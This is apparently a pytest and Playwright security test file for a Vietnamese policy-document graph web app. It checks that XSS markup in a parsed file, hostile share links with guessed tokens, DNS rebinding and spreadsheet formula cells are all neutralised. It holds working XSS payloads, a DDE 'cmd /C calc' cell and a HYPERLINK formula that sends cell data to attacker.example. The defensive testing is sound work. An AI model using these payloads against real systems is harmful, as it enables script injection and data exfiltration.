        inline = page.evaluate("() => document.querySelectorAll('script:not([src])').length")
    finally:
        context.close()
    assert len(points) >= 5 and dialogs == []
    assert made == 0 and inline == 2  # the vis-network bundle and the page's own code, nothing more
    assert any("id=pwned-img onerror=alert('img')" in tip for tip in tips), tips[:3]


# ------------------------------------------------------------ a hostile source file, parsed (stop 17)

# Put into a copy of a seed plan's title and one of its tasks, and into the file's name: markup
# for each HTML context, a line separator, a javascript: text and a right-to-left override.
HOSTILE_SOURCE_TEXT = (
    "\"'><img src=x id=pwned-img onerror=alert('img')></script><script id=pwned-script>alert(1)"
    "</script>\u2028javascript:alert('js')\u202e"
)
CRAWL_START = ["/", "/documents", "/search?q=pwned", "/deadlines", "/tree?doc=214/KH-UBND"]
SAME_SITE_LINKS = "() => [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'))"


@pytest.fixture(scope="module")
def parsed_hostile(tmp_path_factory):
    """A server on the graph `policy-graph build` makes of the hostile file alone; its source
    folder is the file's, so the source page shows the file's text."""
    import pyoxigraph as ox

    from graph.build import build

    work = tmp_path_factory.mktemp("parsed-hostile")
    raw = work / "raw"
    raw.mkdir()
    lines = (RAW_DIR / "quang-ngai_kh-ubnd_2024_214.txt").read_text(encoding="utf-8").split("\n")
    lines[9] += " " + HOSTILE_SOURCE_TEXT  # the title
    lines[45] = lines[45].replace("theo dõi, đánh giá", f"theo dõi {HOSTILE_SOURCE_TEXT}, đánh giá")
    name = "quang-ngai_kh-ubnd_2024_<img src=x id=pwned-file onerror=alert('file')>.txt"
    (raw / name).write_text("\n".join(lines), encoding="utf-8")
    report = build([raw], work / "store", work / "ttl")
    assert report.rejected == []
    store = ox.Store.read_only(str(work / "store"))
    source = next(iter(store.quads_for_pattern(None, ox.NamedNode(f"{BASE}/ontology#sourceFile"), None)))
    start = [*CRAWL_START, "/" + source.object.value.removeprefix(BASE + "/")]
    del store
    with running_server(work / "store", raw_dir=str(raw), timeout_s=10.0) as base_url:
        yield base_url, start


def test_a_hostile_source_file_parsed_and_browsed_runs_no_script_on_any_page(browser, parsed_hostile):
    """The task's attack: a source file whose title, task text and file name hold markup, built
    into a store by the real pipeline, every page reached from the landing page browsed (60 of
    them: documents, tasks, agencies, citations, the tree, the source text), the Content-Security-
    Policy ignored so that the escaping alone is tested.  Nothing found; kept as a test."""
    url, start = parsed_hostile
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script(WATCH_FOR_SCRIPT)
    queue, seen, made, showing = list(start), set(), [], 0
    try:
        while queue and len(seen) < 60:
            path = queue.pop(0)
            if path in seen:
                continue
            seen.add(path)
            page.goto(url + path)
            page.wait_for_load_state("networkidle")
            found = page.evaluate(FOUND_INJECTED)
            if any(found.values()):
                made.append((path, found))
            showing += "id=pwned-img" in page.inner_text("body")
            for href in page.evaluate(SAME_SITE_LINKS):
                downloaded = href.startswith(("/static", "/download", "/sparql")) or "format=" in href
                if href.startswith("/") and not downloaded:
                    queue.append(href)
    finally:
        context.close()
    assert len(seen) == 60 and made == [] and dialogs == []
    assert showing >= 10  # the text is there, as text
    assert any(path.startswith("/source/") for path in seen)


# ------------------------------------------------------------ the query UI's shared links (stop 19)

LINK_TOKEN = "stop19-link-" + "t0ken-0123456789abcdef"


@pytest.fixture(scope="module")
def writable_url(tmp_path_factory):
    with running_server(
        build_fixture_store(tmp_path_factory.mktemp("e2e-writable") / "store"),
        timeout_s=10.0,
        allow_update=True,
        update_token=LINK_TOKEN,
    ) as base_url:
        yield base_url


def _hostile_link(url: str, n: int) -> str:
    """YASGUI's own share link, as anyone may write one: a query (an update), and the endpoint,
    method, headers and parameters it is sent with."""
    import json
    from urllib.parse import urlencode

    fields = {
        "query": f"INSERT DATA {{ <http://example.org/link/{n}> <http://example.org/p> 1 }}",
        "endpoint": url + "/sparql",
        "requestMethod": "POST",
        "headers": json.dumps({"Authorization": f"Bearer guess-{n:020d}"}),
        "planted": "by-the-link",  # any other field is a request parameter
    }
    return url + "/sparql-ui#" + urlencode(fields)


def test_a_shared_link_sends_only_its_query_to_our_endpoint(browser, writable_url):
    """Before: YASGUI took a link's endpoint, method, headers and parameters as they were and ran
    its query at once, so a link's ``Authorization: Bearer guess`` went out from the browser of
    whoever opened it (same origin: CORS does not apply), one wrong token each: eleven openings
    behind one address and the updater's right token was a 429 for ten minutes.  The link's
    headers also became the defaults of every tab opened after it.  Now a link fills in its query
    text alone; it is sent to this server's endpoint with the UI's own settings."""
    import httpx

    context = browser.new_context()
    try:
        for n in range(11):
            page = context.new_page()
            sent = []
            page.on("request", lambda r, sent=sent: r.url.endswith("/sparql") and sent.append(r))
            page.goto(_hostile_link(writable_url, n))
            page.wait_for_selector(".yasqe .CodeMirror")
            page.wait_for_timeout(300)
            expect(page.locator(".yasr")).to_contain_text("Cần token hợp lệ", timeout=15000)
            assert sent and all("authorization" not in r.headers for r in sent)
            assert all("planted" not in (r.post_data or "") for r in sent)
            config = page.evaluate("window.policyGraphYasgui.getTab().getRequestConfig()")
            assert config["headers"] == {} and config["args"] == []
            assert config["endpoint"] == writable_url + "/sparql"
            new_tab = page.evaluate("window.policyGraphYasgui.addTab(true).getRequestConfig().headers")
            assert new_tab == {}
            page.close()
    finally:
        context.close()
    admin = httpx.post(
        writable_url + "/sparql",
        data={"update": "INSERT DATA { <http://example.org/a> <http://example.org/b> 1 }"},
        headers={"Authorization": f"Bearer {LINK_TOKEN}"},
        timeout=30,
    )
    assert admin.status_code == 200


HOSTILE_CELLS = """SELECT ?cell WHERE { VALUES ?cell {
  "=HYPERLINK(\\"http://attacker.example/?d=\\"&A3,\\"Bấm vào đây\\")"
  "+cmd|' /C calc'!A0" "@SUM(1+1)" "- Sở Tài chính chủ trì" "-5" "Sở Công Thương, \\"Hà Nội\\"" } }"""


def test_the_query_uis_csv_download_neutralises_formulas(page, url):
    """(stop 19) The result table's download is YASR's own CSV, made in the browser: before, each
    value went out as it was, so a cell of a result (a document's text, or a shared link's
    VALUES) opening with = + - or @ was a formula when the analyst opened the file in Excel.  Now
    such a cell opens with an apostrophe (a signed number is left a number), as the server's CSV
    exports do, and the file opens with a byte-order mark so Excel reads Vietnamese."""
    page.goto(url + "/sparql-ui")
    page.wait_for_selector(".yasqe .CodeMirror")
    page.evaluate("(q) => { window.policyGraphYasgui.getTab().setQuery(q); }", HOSTILE_CELLS)
    page.click(".yasqe_queryButton")
    expect(page.locator(".yasr table tbody tr")).to_have_count(6, timeout=15000)
    with page.expect_download() as download:
        page.click(".yasr_downloadIcon")
    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    assert text.split("\r\n") == [
        "cell",
        '"\'=HYPERLINK(""http://attacker.example/?d=""&A3,""Bấm vào đây"")"',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'- Sở Tài chính chủ trì",
        "-5",
        '"Sở Công Thương, ""Hà Nội"""',
        "",
    ]
    assert Path(download.value.path()).read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_rebound_name_gets_no_page_in_a_real_browser(browser, fixture_url):
    """DNS rebinding as the browser sees it (stop 19): Chromium told that evil.example is
    127.0.0.1 (as the attacker's DNS would tell it after the page loaded) asks our server for
    http://evil.example:PORT/, the attacker's own origin.  Before: the landing page, and from it
    every page and answer to the attacker's scripts.  Now the bilingual 421; the same server by
    its own names still serves."""
    port = fixture_url.rsplit(":", 1)[1]
    # a second Chromium from the same Playwright (a second sync_playwright() cannot start beside it)
    rebinding = browser.browser_type.launch(
        executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP evil.example 127.0.0.1"]
    )
    try:
        page = rebinding.new_page()
        answer = page.goto(f"http://evil.example:{port}/")
        assert answer.status == 421
        assert "does not answer for the host 'evil.example:" in page.content()
        read = page.evaluate("async () => (await fetch('/sparql?query=ASK%7B%7D')).status")
        assert read == 421
        assert page.goto(f"http://localhost:{port}/").status == 200
        expect(page.locator("#search-box")).to_be_visible()
    finally:
        rebinding.close()
